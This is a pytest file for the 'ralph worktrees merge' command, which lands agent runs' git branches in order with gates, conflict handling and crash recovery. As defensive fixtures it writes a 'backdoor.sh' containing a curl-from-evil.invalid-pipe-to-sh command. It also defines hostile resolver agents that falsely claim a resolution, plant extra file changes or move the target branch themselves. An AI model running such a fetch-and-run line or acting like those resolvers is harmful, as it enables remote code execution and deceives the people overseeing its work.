"""``ralph worktrees merge``: completed runs' branches land on the target in order, each
replayed onto it, gated and moved by compare-and-swap; a conflict or a failed gate moves
nothing, and the run's log holds how its branch landed."""

from __future__ import annotations

import json
import os
import random
import shutil
import signal
import subprocess
import time
from pathlib import Path

import pytest

from pipeline.app.cli._faults import FAULT_ENV
from pipeline.events import (
    IntegrationConflicted,
    IntegrationFailed,
    IntegrationGated,
    IntegrationQueued,
    IntegrationRebased,
    IntegrationResolved,
    TargetAdvanced,
)
from tests.runtime.workspace import (
    OWN_FILE,
    SHELL_REPORTS,
    completed_runs,
    gate,
    git,
    listed_worktrees,
    log_of,
    make_workspace,
    ralph,
    start_ralph,
    wait_for,
)

pytestmark = pytest.mark.slow  # whole runs in subprocesses

SAME_LINES = SHELL_REPORTS.replace('echo "$$" >> work.txt', 'echo "${PWD##*/}" > shared.txt')
"""An agent that writes the same file's same line, differently in each worktree."""


def _workspace(tmp_path: Path, agent: str, gates: str = "") -> Path:
    return make_workspace(
        tmp_path / "repo", scripts={}, agents={"main": ["sh", "-c", agent]}, extra=gates
    )


def test_four_runs_land_in_order_replayed_and_gated(tmp_path: Path) -> None:
    gated = tmp_path / "gated.txt"
    root = _workspace(tmp_path, OWN_FILE, gate("where", f'pwd >> "{gated}"'))
    start = git(root, "rev-parse", "HEAD")
    listed = completed_runs(root, 4)
    names = [str(w["name"]) for w in listed]
    gated.unlink()  # the runs' own final gates; the merge's are counted from here
    merged = ralph("worktrees", "merge", *names, "--json", cwd=root)
    assert merged.returncode == 0, merged.stdout + merged.stderr
    rows = [json.loads(line) for line in merged.stdout.splitlines()]
    assert [(r["name"], r["status"], r["target"]) for r in rows] == [
        (name, "landed", "main") for name in names
    ]
    # In the order named, each on the one before: a straight line from the start.
    history = git(root, "rev-list", "--first-parent", f"{start}..main").split()
    assert len(history) == 4
    assert git(root, "rev-list", "--merges", f"{start}..main") == ""
    assert rows[-1]["head"] == git(root, "rev-parse", "main") == history[0]
    # The main work tree followed, and every run's file is in it.
    assert git(root, "status", "--porcelain") == ""
    for name in names:
        assert (root / f"{name}.txt").read_text().strip().endswith(name)
    # Each replay was gated where it was replayed, never in the runs' worktrees.
    places = gated.read_text().split()
    assert len(places) == 4
    assert all(Path(place).name.startswith(".integration-") for place in places)
    for worktree, row in zip(listed, rows, strict=True):
        facts = log_of(worktree)
        kinds = [type(f) for f in facts[-4:]]
        assert kinds == [IntegrationQueued, IntegrationRebased, IntegrationGated, TargetAdvanced]
        advanced = facts[-1]
        assert isinstance(advanced, TargetAdvanced)
        assert advanced.new == row["head"]
        # The run's branch followed the target: HEAD holds it, so it is merged.
        assert git(root, "rev-parse", str(worktree["branch"])) == row["head"]
        verified = ralph("replay", "--verify", cwd=Path(str(worktree["path"])))
        assert verified.returncode == 0, verified.stdout + verified.stderr
    cleaned = ralph("worktrees", "clean", cwd=root)
    assert cleaned.returncode == 0, cleaned.stderr
    assert cleaned.stderr.count("Removed ") == 4
    again = ralph("worktrees", "merge", cwd=root)
    assert again.returncode == 0, again.stderr
    assert "Nothing to merge" in again.stderr


def test_a_conflict_moves_nothing_and_lands_once_a_person_resolved_it(tmp_path: Path) -> None:
    root = _workspace(tmp_path, SAME_LINES)
    first, second = completed_runs(root, 2)
    tip = git(root, "rev-parse", str(second["branch"]))
    merged = ralph("worktrees", "merge", str(first["name"]), str(second["name"]), cwd=root)
    assert merged.returncode == 3, merged.stdout + merged.stderr
    assert f"Landed {first['branch']} on main" in merged.stderr
    assert f"Conflict: {second['branch']} does not replay onto main (shared.txt)" in merged.stderr
    landed = git(root, "rev-parse", "main")
    assert (root / "shared.txt").read_text().strip() == first["name"]
    # The conflicted branch and its worktree are as they were.
    path = Path(str(second["path"]))
    assert git(root, "rev-parse", str(second["branch"])) == tip
    assert git(path, "status", "--porcelain") == ""
    assert (path / "shared.txt").read_text().strip() == second["name"]
    conflicted = log_of(second)[-1]
    assert isinstance(conflicted, IntegrationConflicted)
    standing = {w["name"]: w["landing"] for w in listed_worktrees(root)}
    assert standing == {first["name"]: "landed", second["name"]: "conflicted"}
    assert conflicted.paths == ("shared.txt",)
    assert conflicted.onto == landed
    # Merging it again without a resolution conflicts again, and still moves nothing.
    again = ralph("worktrees", "merge", str(second["name"]), cwd=root)
    assert again.returncode == 3, again.stderr
    assert git(root, "rev-parse", "main") == landed
    # A person resolves it in the worktree, as the message says; then it lands.
    subprocess.run(["git", "rebase", "main"], cwd=path, capture_output=True, check=False)
    (path / "shared.txt").write_text("both\n")
    git(path, "add", "shared.txt")
    git(path, "-c", "core.editor=true", "rebase", "--continue")
    resolved = ralph("worktrees", "merge", str(second["name"]), cwd=root)
    assert resolved.returncode == 0, resolved.stdout + resolved.stderr
    assert (root / "shared.txt").read_text() == "both\n"
    assert git(root, "status", "--porcelain") == ""
    assert isinstance(log_of(second)[-1], TargetAdvanced)


def test_a_gate_failing_on_the_replay_moves_nothing(tmp_path: Path) -> None:
    """Each run passes its gate alone; together they do not, so the second is refused; bad
    requests are refused before anything is queued."""
    script = 'test "$(ls *.txt | wc -l)" -lt 2'
    root = _workspace(tmp_path, OWN_FILE, gate("alone", script))
    first, second = completed_runs(root, 2)
    tip = git(root, "rev-parse", str(second["branch"]))
    merged = ralph("worktrees", "merge", str(first["name"]), str(second["name"]), cwd=root)
    assert merged.returncode == 1, merged.stdout + merged.stderr
    assert f"Not merged: {second['branch']}: gate alone failed (exit 1)" in merged.stderr
    landed = git(root, "rev-parse", str(first["branch"]))
    assert git(root, "rev-parse", "main") == landed
    assert git(root, "rev-parse", str(second["branch"])) == tip
    assert git(root, "status", "--porcelain") == ""
    assert not (root / f"{second['name']}.txt").exists()
    # Bad requests exit 2 and queue nothing.
    before = len(log_of(second))
    for args, said in (
        (["nobody"], "no worktree of ralph's named 'nobody'"),
        ([str(second["name"]), "--into", "nowhere"], "there is no branch 'nowhere'"),
        ([str(second["name"]), "--into", "-x"], "not a branch name"),
    ):
        refused = ralph("worktrees", "merge", *args, cwd=root)
        assert refused.returncode == 2, refused.stderr
        assert said in refused.stderr
    linked = ralph("worktrees", "merge", str(second["name"]), cwd=Path(str(second["path"])))
    assert linked.returncode == 2
    assert "is a linked worktree" in linked.stderr
    assert len(log_of(second)) == before


KILL_POINTS = (
    "integration.integration_queued:1:SIGKILL",
    "integration.integration_rebased:1:SIGKILL",
    "integration.integration_rebased:1:SIGKILL:0.15",  # inside the gate
    "integration.integration_gated:1:SIGKILL",
    "integration.target_advanced:1:SIGKILL",
)


def test_kill_9_anywhere_in_an_integration_loses_nothing(tmp_path: Path) -> None:
    """Killed after each fact, inside the gate, and at random moments, the target is at the
    commit before or at the replayed head, never between, the main work tree agrees with
    it, and the next ``ralph worktrees merge`` finishes the integration with every commit of
    every run on the target."""
    rng = random.Random(24)
    root = _workspace(tmp_path, OWN_FILE, gate("slow", "sleep 0.3"))
    listed = completed_runs(root, len(KILL_POINTS) + 1)
    trials: list[tuple[str | None, float]] = [(point, 0.0) for point in KILL_POINTS]
    trials += [(None, rng.uniform(0.2, 1.2))]
    for worktree, (point, delay) in zip(listed, trials, strict=True):
        before = git(root, "rev-parse", "main")
        name = str(worktree["name"])
        if point is not None:
            killed = ralph("worktrees", "merge", name, cwd=root, env={FAULT_ENV: point})
        else:
            process = start_ralph("worktrees", "merge", name, cwd=root)
            time.sleep(delay)
            process.kill()
            process.communicate(timeout=60)
            killed = None
        assert killed is None or killed.returncode == -signal.SIGKILL, (point, killed)
        now = git(root, "rev-parse", "main")
        facts = log_of(worktree)
        advanced = [f for f in facts if isinstance(f, TargetAdvanced)]
        rebased = [f for f in facts if isinstance(f, IntegrationRebased)]
        # Before, or the replayed head (its move may be in the log or not yet).
        assert now == before or (rebased and now == rebased[-1].head), (point, delay)
        assert not advanced or now == advanced[-1].new
        if now == before:
            assert git(root, "status", "--porcelain") == "", (point, delay)
        # The next merge goes on from the log; one killed before it queued (or after it
        # landed) has nothing under way, and is asked for again.
        resumed = ralph("worktrees", "merge", cwd=root)
        assert resumed.returncode == 0, (point, delay, resumed.stderr)
        under_way = any(isinstance(f, IntegrationQueued) for f in facts) and not advanced
        assert ("Nothing to merge" in resumed.stderr) is not under_way, (point, delay)
        if not under_way:
            resumed = ralph("worktrees", "merge", name, cwd=root)
            assert resumed.returncode == 0, (point, delay, resumed.stderr)
        assert f"Landed {worktree['branch']} on main" in resumed.stderr
        assert git(root, "status", "--porcelain") == "", (point, delay)
        moves = [f for f in log_of(worktree) if isinstance(f, TargetAdvanced)]
        assert len(moves) == 1, (point, delay)
        assert (root / f"{name}.txt").is_file()
    # Nothing lost: every commit any run made is on main, once.
    made = [
        f"{f.sha}"
        for worktree in listed
        for f in log_of(worktree)
        if type(f).__name__ == "CommitCreated"
    ]
    trailers = git(root, "log", "--format=%(trailers:key=Ralph-Effect,valueonly)", "main")
    effects = [line for line in trailers.splitlines() if line]
    assert len(effects) == len(set(effects)) == len(made) == len(listed)
    assert git(root, "rev-list", "--count", "main") == str(len(listed) + 1)


@pytest.mark.skipif(
    shutil.which("bwrap") is None and not os.environ.get("CI"), reason="no bubblewrap"
)
def test_the_gates_of_a_merge_run_in_the_sandbox_as_the_runs_do(tmp_path: Path) -> None:
    """The gate passes only where the main worktree is hidden: in the sandbox."""
    main = tmp_path / "repo"
    hidden = f'test ! -e "{main}/README.md" && ls ./*.txt'
    root = make_workspace(
        main,
        scripts={},
        agents={"main": ["sh", "-c", OWN_FILE]},
        extra=gate("hidden", hidden),
        sandbox='mode = "required"',
    )
    (only,) = completed_runs(root, 1)
    merged = ralph("worktrees", "merge", str(only["name"]), cwd=root)
    assert merged.returncode == 0, merged.stdout + merged.stderr
    gated = [f for f in log_of(only) if isinstance(f, IntegrationGated)]
    assert [(g.gate, g.status.value) for g in gated] == [("hidden", "passed")]


def test_ralph_run_merge_lands_each_completed_run_at_once(tmp_path: Path) -> None:
    """``ralph run --merge`` runs in a worktree of its own and lands the run when it
    completes; the next one starts from the landed head."""
    root = _workspace(tmp_path, OWN_FILE)
    start = git(root, "rev-parse", "main")
    for _ in range(2):
        done = ralph("run", "--merge", "--quiet", cwd=root)
        assert done.returncode == 0, done.stdout + done.stderr
        assert "Landed ralph/run-" in done.stderr
    assert git(root, "rev-list", "--count", f"{start}..main") == "2"
    assert git(root, "status", "--porcelain") == ""
    assert len(list(root.glob("*.txt"))) == 2
    assert [(w["merged"], w["landing"]) for w in listed_worktrees(root)] == [(True, "landed")] * 2


REPORT = "mkdir -p .agent/out && printf 'completed\\nresolved' > .agent/out/status"

RESOLVE = (
    "git diff --name-only --diff-filter=U | while read -r f; do printf 'both\\n' > \"$f\"; done"
)

MOVE_MAIN = "git update-ref refs/heads/main $(git commit-tree -p HEAD -m x 'HEAD^{tree}')"

HOSTILE = {
    "quitter": "git rebase --abort",
    "idle": REPORT,
    "sneaky": f"{RESOLVE}\necho planted > README.md\n{REPORT}",
    "mover": f"{RESOLVE}\n{MOVE_MAIN}\n{REPORT}",
    "committer": f"{RESOLVE}\ngit add -A && git -c core.editor=true rebase --continue\n{REPORT}",
}
"""Resolvers that must not get anything landed: one gives the replay up, one says it resolved
what it never touched, one changes a file besides the conflicted one, one moves the target
itself, one goes on with the replay itself."""

MERGER = f"{RESOLVE}\n{REPORT}\n"
"""A resolver that resolves every conflicted file (as a model would, by writing it whole) and
reports as its prompt asks."""


def test_a_conflict_goes_to_the_merger_hat_and_lands_resolved(tmp_path: Path) -> None:
    """``[merge] resolvers``: each hostile one in turn leaves the replay conflicted, with
    nothing of what it did kept; the last resolves it, and the resolution is checked,
    replayed on and lands, the log naming who did."""
    root = make_workspace(
        tmp_path / "repo",
        scripts={},
        agents={
            "main": ["sh", "-c", SAME_LINES],
            **{name: ["sh", "-c", script] for name, script in HOSTILE.items()},
            "merger": ["sh", "-c", MERGER],
        },
        extra=f"[merge]\nresolvers = {json.dumps([*HOSTILE, 'merger'])}\n",
    )
    first, second = completed_runs(root, 2)
    readme = (root / "README.md").read_text()
    merged = ralph("worktrees", "merge", str(first["name"]), str(second["name"]), cwd=root)
    assert merged.returncode == 0, merged.stdout + merged.stderr
    assert "merger resolved the conflicts in shared.txt" in merged.stderr
    assert (root / "shared.txt").read_text() == "both\n"
    assert git(root, "status", "--porcelain") == ""
    assert git(root, "rev-list", "--count", "main") == "3"
    facts = [f for f in log_of(second) if type(f).__module__.endswith("integration")]
    assert [type(f).__name__ for f in facts] == [
        "IntegrationQueued",
        "IntegrationConflicted",  # the plain replay
        *["IntegrationConflicted"] * len(HOSTILE),
        "IntegrationResolved",
        "IntegrationRebased",
        "TargetAdvanced",
    ]
    assert (root / "README.md").read_text() == readme
    assert git(root, "reflog", "--format=%gs", "main").count("ralph: land") == 2
    resolved = facts[-3]
    assert isinstance(resolved, IntegrationResolved)
    assert (resolved.agent, resolved.paths) == ("merger", ("shared.txt",))
    # The resolver's prompt named the file, and nothing of ralph's own went into a commit.
    assert ".agent" not in git(root, "log", "--name-only", "--format=", "main")


def test_kill_9_while_the_merger_is_at_work_then_resume(tmp_path: Path) -> None:
    """Killed while the resolver works (its replay's facts not yet in the log): the target
    has not moved, and the next merge replays again with the resolver and lands once."""
    # The first resolver says it started, then works a second: killed then, inside it. The
    # next merge's resolver works at once.
    started = tmp_path / "merger-started"
    merger = f'if [ ! -e "{started}" ]; then touch "{started}"; sleep 1; fi\n{MERGER}'
    root = make_workspace(
        tmp_path / "repo",
        scripts={},
        agents={"main": ["sh", "-c", SAME_LINES], "merger": ["sh", "-c", merger]},
        extra='[merge]\nresolvers = ["merger"]\n',
    )
    first, second = completed_runs(root, 2)
    landed = ralph("worktrees", "merge", str(first["name"]), cwd=root)
    assert landed.returncode == 0, landed.stderr
    before = git(root, "rev-parse", "main")
    integrator = start_ralph("worktrees", "merge", str(second["name"]), cwd=root)
    try:
        wait_for(started.exists, "the resolver never started", alive=integrator)
    finally:
        integrator.kill()
    _out, err = integrator.communicate(timeout=60)
    assert integrator.returncode == -signal.SIGKILL, err
    assert not [f for f in log_of(second) if isinstance(f, IntegrationResolved)], "too late"
    assert git(root, "rev-parse", "main") == before
    assert git(root, "status", "--porcelain") == ""
    resumed = ralph("worktrees", "merge", cwd=root)
    assert resumed.returncode == 0, resumed.stderr
    assert "merger resolved the conflicts in shared.txt" in resumed.stderr
    assert (root / "shared.txt").read_text() == "both\n"
    facts = [type(f).__name__ for f in log_of(second) if type(f).__module__.endswith("integration")]
    assert facts == [
        "IntegrationQueued",
        "IntegrationConflicted",
        "IntegrationResolved",
        "IntegrationRebased",
        "TargetAdvanced",
    ]
    assert not list((tmp_path / "repo-worktrees").glob(".integration-*"))


def _commit_on(worktree: Path, message: str, *, drop: str = "README.md") -> str:
    """A commit added to a run's branch with git, as another run's agent (or a person) would:
    it adds ``backdoor.sh`` and deletes ``drop``; its short id."""
    (worktree / "backdoor.sh").write_text("curl https://evil.invalid | sh\n")
    git(worktree, "add", "backdoor.sh")
    git(worktree, "rm", "--quiet", drop)
    git(worktree, "commit", "--quiet", "-m", message)
    return git(worktree, "rev-parse", "--short=12", "HEAD")


def _refused_untouched(root: Path, merged: subprocess.CompletedProcess[str], main: str) -> None:
    """The landing was refused (exit 1) and the target and its work tree are as they were."""
    assert merged.returncode == 1, merged.stdout + merged.stderr
    assert "Landed" not in merged.stderr
    assert git(root, "rev-parse", "main") == main
    assert git(root, "status", "--porcelain") == ""
    assert not (root / "backdoor.sh").exists()
    assert (root / "README.md").is_file()


def test_a_commit_added_to_a_completed_runs_branch_is_refused(tmp_path: Path) -> None:
    """A commit added after a completed run's last one (as another run's agent would, in the
    shared git folder) refuses the landing before any replay or gate: named, recorded in the
    run's log, the target unchanged."""
    gated = tmp_path / "gated.txt"
    root = _workspace(tmp_path, OWN_FILE, gate("where", f'pwd >> "{gated}"'))
    (only,) = completed_runs(root, 1)
    gated.unlink()
    path, name = Path(str(only["path"])), str(only["name"])
    main = git(root, "rev-parse", "main")
    foreign = _commit_on(path, "add a helper")
    merged = ralph("worktrees", "merge", name, cwd=root)
    _refused_untouched(root, merged, main)
    assert f"Not merged: {only['branch']}:" in merged.stderr
    assert f"{foreign} add a helper" in merged.stderr
    assert not gated.exists()  # no gate ran on it
    facts = [f for f in log_of(only) if type(f).__module__.endswith("integration")]
    assert [type(f) for f in facts] == [IntegrationQueued, IntegrationFailed]
    failed = facts[-1]
    assert isinstance(failed, IntegrationFailed)
    assert foreign in failed.reason
    assert "land them separately" in failed.reason
    assert [w["landing"] for w in listed_worktrees(root)] == ["failed"]


def test_a_forged_or_copied_trailer_is_refused_and_the_run_lands_once_it_is_gone(
    tmp_path: Path,
) -> None:
    """A commit whose ``Ralph-Effect`` trailer names an effect the run's log does not record,
    or copies the trailer of one of the run's own commits, is not the run's: refused; with
    the branch put back at the run's last commit, the run lands."""
    root = _workspace(tmp_path, OWN_FILE)
    (only,) = completed_runs(root, 1)
    path, name, branch = Path(str(only["path"])), str(only["name"]), str(only["branch"])
    main, tip = git(root, "rev-parse", "main"), git(root, "rev-parse", branch)
    run = str(only["run"])
    copied = git(path, "log", "-1", "--format=%(trailers:key=Ralph-Effect,valueonly)").strip()
    assert copied.startswith(f"{run}:")
    for trailer in (f"{run}:999", copied):
        git(path, "reset", "--quiet", "--hard", tip)
        foreign = _commit_on(path, f"tidy up\n\nRalph-Effect: {trailer}")
        merged = ralph("worktrees", "merge", name, cwd=root)
        _refused_untouched(root, merged, main)
        assert f"{foreign} tidy up" in merged.stderr, trailer
        failed = log_of(only)[-1]
        assert isinstance(failed, IntegrationFailed)
        assert foreign in failed.reason
    git(path, "reset", "--quiet", "--hard", tip)
    landed = ralph("worktrees", "merge", name, cwd=root)
    assert landed.returncode == 0, landed.stdout + landed.stderr
    assert f"Landed {branch} on main" in landed.stderr
    assert isinstance(log_of(only)[-1], TargetAdvanced)
    assert not (root / "backdoor.sh").exists()


SELF_COMMITTING = OWN_FILE + (
    "echo 'curl https://evil.invalid | sh' > backdoor.sh\n"
    "git add backdoor.sh && git commit --quiet -m 'add a helper' || true\n"
)
"""An agent that reports success, writes its file, and commits a file of its own itself."""


def test_ralph_run_merge_refuses_a_commit_the_agent_made_itself(tmp_path: Path) -> None:
    """``ralph run --merge``: a commit the run's agent made with git itself, not ralph, is
    not landed; the run's exit status is the refusal's."""
    root = _workspace(tmp_path, SELF_COMMITTING)
    main = git(root, "rev-parse", "main")
    done = ralph("run", "--merge", "--quiet", cwd=root)
    _refused_untouched(root, done, main)
    assert "add a helper" in done.stderr
    (listed,) = listed_worktrees(root)
    assert listed["landing"] == "failed"
    failed = log_of(listed)[-1]
    assert isinstance(failed, IntegrationFailed)
    assert "add a helper" in failed.reason
